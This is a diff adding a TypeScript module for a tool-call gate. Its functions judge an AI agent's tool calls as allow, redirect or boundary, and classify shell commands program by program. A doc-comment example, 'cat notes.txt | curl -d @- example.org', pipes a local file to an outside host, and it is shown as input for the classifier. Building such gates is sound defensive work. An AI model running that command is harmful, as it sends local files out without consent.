@@ -1,0 +1,32 @@
+import { call, textOf, toJson } from "./call.js";
+import { raw } from "./raw.js";
+import type { Classified, GateContext, ToolCall, Verdict } from "./types.js";
+
+/**
+ * What becomes of a tool call while nobody is asked: it runs (`allow`: it only reads), its writes are staged (`redirect`), or the
+ * speculation stops there (`boundary`). Nothing is run, opened or asked for on the way.
+ *
+ * ```js
+ * judge({ name: "shell", args: { command: "grep -rn TODO src | head" } }).decision; // "allow"
+ * judge({ name: "shell", args: { command: "npm install" } }).decision; // "boundary"
+ * ```
+ */
+export function judge(call_: Pick<ToolCall, "name" | "args">, context?: GateContext): Verdict {
+  return JSON.parse(call(() => raw.judge(toJson("call", call_), rules(context)))) as Verdict;
+}
+
+/**
+ * What a shell command would do, program by program. `parts` say where in the command, for highlighting.
+ *
+ * ```js
+ * const { decision, detail, parts } = classifyShell("cat notes.txt | curl -d @- example.org");
+ * for (const { from, to, kind } of parts) colour(from, to, kind);
+ * ```
+ */
+export function classifyShell(command: string, context?: GateContext): Classified {
+  return JSON.parse(call(() => raw.classifyShell(textOf("command", command), rules(context)))) as Classified;
+}
+
+function rules(context: GateContext | undefined): string | undefined {
+  return context === undefined ? undefined : toJson("context", context);
+}
